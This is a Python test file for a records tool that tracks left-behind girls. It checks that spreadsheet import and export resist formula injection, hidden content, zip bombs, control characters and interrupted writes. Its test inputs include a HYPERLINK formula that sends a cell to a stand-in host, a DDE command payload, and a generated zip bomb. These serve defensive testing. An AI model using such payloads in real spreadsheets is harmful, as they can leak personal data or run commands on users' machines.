"""Spreadsheets that fight back (issue 8): formulas going out and coming in, personal numbers in
free text, zip bombs, hidden sheets, rows and columns, interrupted and simultaneous imports.

Every file is made at run time (fictional data only); nothing large is committed.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from aixin.cli import main
from aixin.core.errors import UsageError
from aixin.load.lock import LOCK_FILE, write_lock
from aixin.sheets import read, staging
from aixin.sheets.export import write_export
from aixin.sheets.importer import import_file
from conftest import REPO, build_root
from test_sheets import GIRL, GIRLS, LOG, LOGS, MOTHER, MOTHERS, PAIRING, PAIRINGS, TODAY, listing, texts, write_xlsx

HYPERLINK = '=HYPERLINK("http://x.example/?q="&D3,"点击查看")'


@pytest.fixture
def root(tmp_path) -> Path:
    return build_root(REPO / "records", tmp_path / "repo")


def run_import(root, path, partial=False):
    return import_file(root, path, "chuanshan", partial=partial, today=TODAY)


def set_field(root: Path, key: str, value: str) -> Path:
    """Give the first girl of chuanshan a new value for a one-line field, as a hand edit would."""
    girl = sorted((root / "records/chuanshan/girls").glob("*.yaml"))[0]
    lines = [line for line in girl.read_text("utf-8").splitlines() if not line.startswith(f"{key}:")]
    quoted = value.replace("'", "''")
    girl.write_text("\n".join(lines) + f"\n{key}: '{quoted}'\n", "utf-8")
    return girl


def all_cells(path: Path):
    return [cell for sheet in openpyxl.load_workbook(path).worksheets for row in sheet.iter_rows() for cell in row]


# --- export: values, never formulas ---------------------------------------------------------------

@pytest.mark.parametrize("full", [False, True])
@pytest.mark.parametrize("value", [HYPERLINK, "  =1+1", "\t=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(1)"])
def test_export_writes_every_value_as_a_value(tmp_path, root, value, full):
    set_field(root, "hobbies", value)
    out = write_export(root, tmp_path / "汇总.xlsx", unit="chuanshan", full=full).path
    cells = all_cells(out)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    shown = [c for c in cells if c.value == value]
    assert shown, "the value is exported as it is, as text"
    assert all(c.data_type == "s" and c.quotePrefix for c in shown)
    raw = zipfile.ZipFile(out).read("xl/worksheets/sheet2.xml").decode()
    assert "<f>" not in raw and "<f " not in raw


def test_export_keeps_dates_as_dates(tmp_path, root):
    out = write_export(root, tmp_path / "汇总.xlsx", unit="chuanshan").path
    assert any(c.is_date for c in all_cells(out))


def test_masked_export_masks_numbers_in_free_text(tmp_path, root):
    set_field(root, "hobbies", "唱歌，有事打奶奶电话13912345678或者找她舅舅（身份证510903198506120021）")
    masked = write_export(root, tmp_path / "m.xlsx", unit="chuanshan").path
    text = " ".join(str(c.value) for c in all_cells(masked) if c.value is not None)
    assert "13912345678" not in text and "510903198506120021" not in text
    assert "139****5678" in text
    full = write_export(root, tmp_path / "f.xlsx", unit="chuanshan", full=True).path
    assert "13912345678" in " ".join(str(c.value) for c in all_cells(full) if c.value is not None)


def test_an_export_with_such_values_imports_as_duplicates_again(tmp_path, root):
    set_field(root, "hobbies", "-跳绳")
    out = write_export(root, tmp_path / "汇总.xlsx", full=True).path
    result = run_import(root, out)
    assert result.exit_code == 0 and result.written == [], texts(result)


# --- import: formulas are reported at their cell -------------------------------------------------

def test_a_formula_in_a_workbook_is_reported_at_its_cell(tmp_path, root):
    path = write_xlsx(tmp_path / "g.xlsx", {GIRLS: [{**GIRL, "女童姓名": HYPERLINK}]})
    before = listing(root)
    result = run_import(root, path)
    lines = texts(result)
    assert any(line.startswith(f"{GIRLS} 第2行「女童姓名」：错误 这一格是公式") for line in lines), lines
    assert not any("缺少" in line or "必填" in line for line in lines), lines
    assert result.exit_code == 1 and listing(root) == before


def test_a_formula_with_a_cached_value_is_still_reported(tmp_path, root):
    """Excel saves a formula's last result with it; that result is not what was typed either."""
    path = write_xlsx(tmp_path / "g.xlsx", {GIRLS: [{**GIRL, "村（社区）": "=B2"}]})
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    members["xl/worksheets/sheet1.xml"] = members["xl/worksheets/sheet1.xml"].replace(b"<f>B2</f><v></v>", b"<f>B2</f><v>x</v>")
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    lines = texts(run_import(root, path))
    assert any("「村（社区）」：错误 这一格是公式" in line for line in lines), lines


def test_text_starting_with_an_equals_sign_in_a_csv_file_is_reported(tmp_path, root):
    buffer = io.StringIO()
    row = {**GIRL, "女童姓名": "\t =HYPERLINK(\"http://x.example\")", "建档日期": "2019-07-06", "出生年月": "2011-04",
           "母亲外出日期": "2018-03-01"}
    writer = csv.DictWriter(buffer, fieldnames=list(row))
    writer.writeheader()
    writer.writerow(row)
    path = tmp_path / "g.csv"
    path.write_text(buffer.getvalue(), "utf-8")
    lines = texts(run_import(root, path))
    assert any("第2行「女童姓名」：错误 这一格是公式" in line for line in lines), lines


@pytest.mark.parametrize("hidden", ["\x00", "\u202e", "\x1b[2J"])
def test_a_control_character_in_a_cell_is_refused(tmp_path, root, hidden):
    buffer = io.StringIO()
    row = {**GIRL, "女童姓名": f"示例{hidden}女童", "建档日期": "2019-07-06", "出生年月": "2011-04",
           "母亲外出日期": "2018-03-01"}
    writer = csv.DictWriter(buffer, fieldnames=list(row))
    writer.writeheader()
    writer.writerow(row)
    path = tmp_path / "g.csv"
    path.write_text(buffer.getvalue(), "utf-8")
    before = listing(root)
    lines = texts(run_import(root, path))
    assert any("第2行「女童姓名」：错误 这一格里有看不见的控制字符" in line for line in lines), lines
    assert listing(root) == before


# --- import: what the coordinator cannot see -----------------------------------------------------

def test_a_hidden_sheet_is_reported_not_imported(tmp_path, root):
    path = write_xlsx(tmp_path / "g.xlsx", {GIRLS: [GIRL], MOTHERS: [MOTHER]})
    workbook = openpyxl.load_workbook(path)
    workbook[MOTHERS].sheet_state = "hidden"
    workbook.save(path)
    before = listing(root)
    result = run_import(root, path)
    assert any(line.startswith(f"{MOTHERS}：错误 这个工作表是隐藏的") for line in texts(result)), texts(result)
    assert result.exit_code == 1 and listing(root) == before


def test_a_hidden_row_is_reported_not_imported(tmp_path, root):
    other = {**GIRL, "女童姓名": "测试女童丙"}
    path = write_xlsx(tmp_path / "g.xlsx", {GIRLS: [GIRL, other]})
    workbook = openpyxl.load_workbook(path)
    workbook[GIRLS].row_dimensions[3].hidden = True
    workbook.save(path)
    result = run_import(root, path, partial=True)
    assert any(line.startswith(f"{GIRLS} 第3行：错误 这一行是隐藏的") for line in texts(result)), texts(result)
    assert [source for _, _, source in result.written] == [f"g.xlsx 「{GIRLS}」第2行"]


def test_a_hidden_column_with_contents_is_reported(tmp_path, root):
    path = write_xlsx(tmp_path / "g.xlsx", {GIRLS: [GIRL]})
    workbook = openpyxl.load_workbook(path)
    sheet = workbook[GIRLS]
    column = next(c.column_letter for c in sheet[1] if c.value == "父亲联系电话")
    sheet.column_dimensions[column].hidden = True
    workbook.save(path)
    result = run_import(root, path)
    assert any(line.startswith(f"{GIRLS} 第1行「父亲联系电话」：错误 这一列是隐藏的") for line in texts(result)), texts(result)
    assert result.exit_code == 1


# --- import: files that are too big once unpacked ---------------------------------------------------

def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path, root):
    path = write_xlsx(tmp_path / "bomb.xlsx", {GIRLS: [GIRL]})
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    head, tail = members.pop(sheet).split(b"</sheetData>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
        with archive.open(sheet, "w", force_zip64=True) as member:
            member.write(head)
            block = b'<row><c t="inlineStr"><is><t>' + b"x" * (1024 * 1024) + b"</t></is></c></row>"
            for _ in range(read.MAX_UNPACKED // len(block) + 2):
                member.write(block)
            member.write(b"</sheetData>" + tail)
    assert path.stat().st_size < 5 * 1024 * 1024
    start = time.perf_counter()
    with pytest.raises(UsageError, match=r"解压后有 .* MB，超过"):
        run_import(root, path)
    assert time.perf_counter() - start < 5
    result = CliRunner().invoke(main, ["import", str(path), "--unit", "chuanshan", "--root", str(root)])
    assert result.exit_code == 2 and "解压后" in result.output


def test_too_many_rows_are_refused(tmp_path, root, monkeypatch):
    monkeypatch.setattr(read, "MAX_ROWS", 50)
    rows = [{**GIRL, "女童姓名": f"测试女童{n}"} for n in range(60)]
    with pytest.raises(UsageError, match="超过 50 行"):
        run_import(root, write_xlsx(tmp_path / "g.xlsx", {GIRLS: rows}))
    path = tmp_path / "g.csv"
    path.write_text("女童姓名\n" + "\n".join(f"测试女童{n}" for n in range(60)), "utf-8")
    with pytest.raises(UsageError, match="超过 50 行"):
        run_import(root, path)


# --- import: one writer at a time, all or nothing on disk -------------------------------------------

def good_file(tmp_path) -> Path:
    return write_xlsx(tmp_path / "good.xlsx", {GIRLS: [GIRL], MOTHERS: [MOTHER], PAIRINGS: [PAIRING], LOGS: [LOG]})


def test_a_second_writer_is_refused_while_one_holds_the_lock(tmp_path, root):
    path = good_file(tmp_path)
    before = listing(root)
    with write_lock(root, "aixin import"):
        with pytest.raises(UsageError, match=r"另一个 aixin 命令（aixin import，进程 [0-9]+）正在写入这个仓库"):
            run_import(root, path)
        result = CliRunner().invoke(main, ["import", str(path), "--unit", "chuanshan", "--root", str(root)])
        assert result.exit_code == 2 and "正在写入这个仓库" in result.output
    assert listing(root) == before
    assert len(run_import(root, path).written) == 4  # released: the next one goes ahead
    assert (root / LOCK_FILE).exists()


def test_two_imports_at_once_do_not_both_write(tmp_path, root):
    """Two processes importing the same file at the same moment: one writes, the other is refused
    (or, coming later, finds only duplicates). Never twice the girls."""
    rows = [{**GIRL, "女童姓名": f"测试女童{n}", "临时监护人联系电话": f"0825-20{n:05d}"} for n in range(150)]
    path = write_xlsx(tmp_path / "many.xlsx", {GIRLS: rows})
    code = (
        "import datetime as dt; from pathlib import Path; from aixin.sheets.importer import import_file\n"
        "from aixin.core.errors import UsageError\n"
        "try:\n"
        f"    r = import_file(Path({str(root)!r}), Path({str(path)!r}), 'chuanshan', today=dt.date(2020, 8, 1))\n"
        "    print('written', len(r.written))\n"
        "except UsageError as e:\n"
        "    print('refused')\n"
    )
    before = [p for p in listing(root) if "/girls/" in p]
    procs = [subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, text=True) for _ in range(2)]
    outputs = sorted(p.communicate(timeout=120)[0].strip() for p in procs)
    assert outputs in (["refused", "written 150"], ["written 0", "written 150"]), outputs
    assert len([p for p in listing(root) if "/girls/" in p]) == len(before) + 150


def _new_files(root: Path, before: list[str]) -> list[str]:
    return [p for p in listing(root) if p not in before and p.endswith(".yaml")]


def test_an_import_killed_while_writing_leaves_nothing_and_is_cleaned_up(tmp_path, root):
    path = good_file(tmp_path)
    before = listing(root)
    code = (
        "import os, signal, datetime as dt; from pathlib import Path\n"
        "from aixin.sheets import staging; from aixin.sheets.importer import import_file\n"
        "real, count = staging.write_new, [0]\n"
        "def dying(path, text):\n"
        "    count[0] += 1\n"
        "    if count[0] == 3: os.kill(os.getpid(), signal.SIGKILL)\n"
        "    real(path, text)\n"
        "staging.write_new = dying\n"
        f"import_file(Path({str(root)!r}), Path({str(path)!r}), 'chuanshan', today=dt.date(2020, 8, 1))\n"
    )
    assert subprocess.run([sys.executable, "-c", code]).returncode == -9
    assert _new_files(root, before) == []
    assert (root / staging.STAGING).is_dir()  # what it left: outside records/
    result = run_import(root, path)
    assert result.lines()[0].startswith("上一次导入在写入过程中被中断，没有写入任何记录")
    assert len(result.written) == 4 and not (root / staging.STAGING).exists()


def test_an_import_killed_while_moving_is_finished_by_the_next(tmp_path, root):
    path = good_file(tmp_path)
    before = listing(root)
    code = (
        "import os, signal, datetime as dt; from pathlib import Path\n"
        "from aixin.sheets import staging; from aixin.sheets.importer import import_file\n"
        "real, count = os.link, [0]\n"
        "def dying(a, b, **kw):\n"
        "    if '.aixin-import' in str(a) and '.aixin-import' not in str(b):\n"
        "        count[0] += 1\n"
        "        if count[0] == 3: os.kill(os.getpid(), signal.SIGKILL)\n"
        "    real(a, b, **kw)\n"
        "os.link = dying\n"
        f"import_file(Path({str(root)!r}), Path({str(path)!r}), 'chuanshan', today=dt.date(2020, 8, 1))\n"
    )
    assert subprocess.run([sys.executable, "-c", code]).returncode == -9
    assert len(_new_files(root, before)) == 2  # two of four moved: the journal says what is left
    result = run_import(root, path)
    assert result.lines()[0].startswith("上一次导入在移入记录时被中断：已完成它，共 4 条记录（这次补上 2 条）")
    assert len(_new_files(root, before)) == 4 and not (root / staging.STAGING).exists()
    assert result.written == []  # the file's rows are now duplicates
    assert {i.severity for i in result.issues} == {"duplicate"}


def test_a_disk_error_while_staging_writes_nothing(tmp_path, root, monkeypatch):
    path = good_file(tmp_path)
    before = listing(root)
    real, count = staging.write_new, [0]

    def failing(target, text):
        count[0] += 1
        if count[0] == 3:
            raise OSError(28, "No space left on device")
        real(target, text)

    monkeypatch.setattr(staging, "write_new", failing)
    with pytest.raises(UsageError, match="没有写入任何记录"):
        run_import(root, path)
    assert listing(root) == before and not (root / staging.STAGING).exists()


def test_the_import_tells_its_progress(tmp_path, root):
    rows = [{**GIRL, "女童姓名": f"测试女童{n}", "临时监护人联系电话": f"0825-21{n:05d}"} for n in range(1200)]
    path = write_xlsx(tmp_path / "many.xlsx", {GIRLS: rows})
    told = []
    result = import_file(root, path, "chuanshan", today=TODAY, progress=lambda *call: told.append(call))
    assert len(result.written) == 1200
    stages = list(dict.fromkeys(what for what, _, _ in told))
    assert stages == ["读取表格", "检查各行", "写入记录"]
    assert ("检查各行", 1200, 1200) in told and ("写入记录", 1200, 1200) in told


def test_a_value_far_to_the_right_is_refused_without_building_huge_rows(tmp_path, root):
    path = write_xlsx(tmp_path / "wide.xlsx", {GIRLS: [GIRL] * 3})
    workbook = openpyxl.load_workbook(path)
    for row in range(1, 4):
        workbook[GIRLS].cell(row, 16384).style = "Good"  # formatted but blank: ignored
    workbook[GIRLS].cell(4, 16000, "备注")
    workbook.save(path)
    with pytest.raises(UsageError, match="的第 WQJ 列还填有内容"):
        run_import(root, path)


def test_new_and_photo_add_wait_for_no_one_while_another_command_writes(root, tmp_path):
    """`aixin new` and `aixin photo add` take the same write lock as `aixin import`."""
    photo = next((REPO / "records" / "chuanshan" / "photos").glob("*.jpg"))
    with write_lock(root, "aixin import"):
        added = CliRunner().invoke(main, ["photo", "add", str(photo), "--to", "chuanshan-l-9b4n2h",
                                          "--root", str(root)])
        assert added.exit_code == 2 and "正在写入这个仓库" in added.output, added.output
    assert not list((root / "records" / "chuanshan" / "photos").glob("chuanshan-l-9b4n2h-3.*"))
    from aixin.entry import new_record
    from aixin.load.repository import open_repository

    plan = new_record.NewRecord(open_repository(root), "girl", "chuanshan", {}, (), None, None)  # type: ignore[arg-type]
    with write_lock(root, "aixin import"), pytest.raises(UsageError, match="正在写入这个仓库"):
        new_record.write(plan, {"name": "示例"})


def test_a_large_import_lists_fifty_records_and_counts_the_rest():
    from aixin.sheets.outcome import LISTED, ImportResult

    written = [("girl", f"records/chuanshan/girls/chuanshan-g-{n:06}.yaml", f"第{n + 2}行") for n in range(LISTED + 7)]
    lines = ImportResult(written=written, ready=len(written)).lines()
    assert sum(line.startswith("  records/") for line in lines) == LISTED
    assert any("另有 7 条" in line for line in lines)


def test_the_import_progress_bar_starts_a_bar_per_stage():
    from aixin.report.progress import ProgressBar

    bar = ProgressBar(unit="行")
    bar.stage("读取表格", 1, 2)
    first = bar.bar
    bar.stage("读取表格", 2, 2)
    assert bar.bar is first and first.n == 2
    bar.stage("检查各行", 3, 5)
    assert bar.bar is not first and (bar.desc, bar.bar.n, bar.bar.total) == ("检查各行", 3, 5)
    bar.close()
    assert bar.bar is None


def test_an_import_message_quoting_a_cell_is_masked_and_shows_control_characters():
    from aixin.sheets.issues import ERROR, Issue

    line = Issue("附件1 留守女童", 2, "单位", ERROR, "“139 1234 5678\u202e”不是已登记的单位", "可以填写：船山区").text()
    assert "1234" not in line and "139 **** 5678" in line and "\\u202e" in line and "\u202e" not in line
